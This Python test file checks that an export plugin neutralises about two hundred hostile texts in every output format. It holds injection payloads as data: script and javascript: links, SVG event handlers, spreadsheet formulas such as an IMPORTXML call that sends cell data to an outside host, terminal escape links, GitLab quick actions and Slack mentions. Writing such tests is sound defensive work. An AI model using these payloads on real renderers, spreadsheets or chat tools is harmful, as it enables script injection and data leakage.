"""Two hundred hostile texts through every registered format: nothing in any of them is active.

Each format has a judge of its own, by the rules of the place it is pasted or opened in: a real
CommonMark parser, an XML parser with a list of elements, the formula rules of spreadsheets, Jira's
and Slack's. A format without a judge fails, so that none can be added unwatched. What Chromium
makes of the page is looked at in `test_browser`.
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from collections import Counter
from collections.abc import Callable
from functools import cache

import pytest

from halfawake.plugins import exporter
from tests.export.drawn import seen
from tests.export.goldens import registered
from tests.export.pasted import REFERENCES, page
from tests.export.test_formats_hostile import (
    TEXTS,
    active_in_csv,
    active_in_jira,
    active_in_list,
    active_in_slack,
)
from tests.export.test_injection import UNSEEN, rendered
from tests.export.test_json import check
from tests.export.test_markup import BREAKING
from tests.export.test_mermaid import LINE, diagrams
from tests.export.test_trace import assert_valid

NOT_YET = (
    "data:text/html,<script>alert(1)</script>", "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)", "<http://tracker.example.org>", "<ann@example.com>",
    "[a][b]\n\n[b]: http://tracker.example.org", "[[wiki page]]", "{{ liquid }} {% raw %}",
    "%%{init: {'securityLevel': 'loose'}}%%",
    "```mermaid\ngraph TD; A-->B; click A href \"x\"\n```", "A->>B: x\nclick A call alert(1)",
    "end\nparticipant X as <b>y</b>", "Note over A: #quot;#60;b#62;", "sequenceDiagram",
    "link A: x @ http://tracker.example.org", "loop every minute; alt x; end",
    "/timeline x | 2026-03-14 02:07", "/spend 1h\n/label ~bug\n/confidential",
    "a | 2026-01-01 00:00", "<!-- -->/close<!-- -->", "<![CDATA[<script>]]>",
    "\u009b31m\u009d8;;http://tracker.example.org\u009c",
    "\u001b]8;;http://tracker.example.org\u001b\\link\u001b]8;;\u001b\\",
    "\u2067RTL\u2069 \u061c \u200e\u200f", "=IMPORTXML(CONCAT(\"http://b\",A1),\"//a\")",
    "+HYPERLINK(1)", "-1+1", "@SUM(1)", "\uff1d1+1", "{toc}{children}{excerpt-include:x}",
    "[~accountid:1] [x|javascript:alert(1)]", "!http://b/x.gif!",
    "<!subteam^S1|x> <!date^1^{date}|x>", "<mailto:a@b.c|x>", "\u2028/close\u2029@here",
    "&#106;avascript:alert(1)", "javascript&colon;alert(1)", "vbscript:x",
    "//tracker.example.org/x", "xlink:href=javascript:alert(1)",
    "<use href=\"#x\"/><animate onbegin=x>", "url(#blind)", "<b>x</b>" * 40,
    "[x]: data:text/html,y 'z'", "`" * 300, "|" * 300, "[" * 300, "*" * 300, "<" * 300,
)  # fmt: skip
EVERY = tuple(dict.fromkeys((*TEXTS, *BREAKING, *NOT_YET)))


def active_in_markdown(text: str) -> list[str]:
    found = page(text)
    outside = [plain for plain in found.plain if REFERENCES.search(plain)]
    return [*found.forbidden, *found.commands, *outside]


def active_in_gitlab(text: str) -> list[str]:
    """Any quick action but the one for the timeline, with a time of ours at its end."""
    found = page(text)
    ours = re.compile(r"/timeline [^|]+ \| \d{4}-\d\d-\d\d \d\d:\d\d\s*")
    others = [line for line in found.commands if not ours.fullmatch(line)]
    outside = [plain for plain in found.plain if REFERENCES.search(plain)]
    return [*found.forbidden, *others, *outside]


def active_in_keys(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    found = [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t"))]
    return found + [f"{len(row)} cells" for row in rows if len(row) != 5]


def active_in_markup(text: str) -> list[str]:
    ET.fromstring(text)
    return seen(text).forbidden


def active_in_json(text: str) -> list[str]:
    """JSON is data; all that may be wrong is that it is none, or another document."""
    check(json.loads(text))
    return []


def active_in_mermaid(text: str) -> list[str]:
    """The Markdown around the diagrams, and every line of a diagram that is none of ours."""
    foreign = [line for one in diagrams(text) for line in one if not LINE.fullmatch(line)]
    return [*active_in_markdown(text), *foreign]


def active_in_trace(text: str) -> list[str]:
    assert_valid(json.loads(text))
    return []


JUDGES: dict[str, Callable[[str], list[str]]] = {
    "csv": active_in_csv,
    "gitlab": active_in_gitlab,
    "html": active_in_markup,
    "jira": active_in_jira,
    "json": active_in_json,
    "keys": active_in_keys,
    "list": active_in_list,
    "md": active_in_markdown,
    "mermaid": active_in_mermaid,
    "slack": active_in_slack,
    "svg": active_in_markup,
    "trace": active_in_trace,
}


def shape(name: str, text: str) -> object:
    """What no text may add to: elements, headings, fences, rows, actions."""
    if name in ("html", "svg"):
        return Counter(seen(text).elements)
    if name in ("csv", "keys"):
        return len(list(csv.reader(io.StringIO(text, newline=""))))
    if name in ("md", "list", "gitlab", "mermaid"):
        made = page(text)
        return (made.headings, made.cells_by_row, len(made.fences), len(made.commands))
    if name == "json":
        return len(json.loads(text)["timeline"])
    if name == "trace":
        return len(json.loads(text)["traceEvents"])
    return None  # the judges of chats and wikis look at every line


@cache
def harmless(name: str) -> object:
    return shape(name, rendered("harmless", exporter(name)))


def test_every_format_has_a_judge() -> None:
    assert set(registered()) <= JUDGES.keys()


def test_there_are_two_hundred_texts() -> None:
    assert len(EVERY) >= 200


@pytest.mark.parametrize(
    ("name", "bad"),
    [
        ("md", "[a](http://b)"), ("md", "<b>x</b>"), ("md", "@team"), ("md", "/close"),
        ("gitlab", "/close"), ("gitlab", "/timeline x | y | 2026-03-14 02:07"), ("keys", "=1,,,,"),
        ("html", "<p><img src='x'/></p>"), ("svg", "<svg onload='x'/>"),
    ],
)  # fmt: skip
def test_the_judges_see_what_is_active(name: str, bad: str) -> None:
    assert JUDGES[name](bad)


@pytest.mark.parametrize("name", registered())
def test_nothing_is_active_in_any_format(name: str) -> None:
    chosen = exporter(name)
    for text in EVERY:
        made = rendered(text, chosen)
        assert JUDGES[name](made) == [], text
        assert not UNSEEN.search(made.replace("\r\n", "\n")), text
        if text.isprintable() and text.strip():
            assert shape(name, made) == harmless(name), text
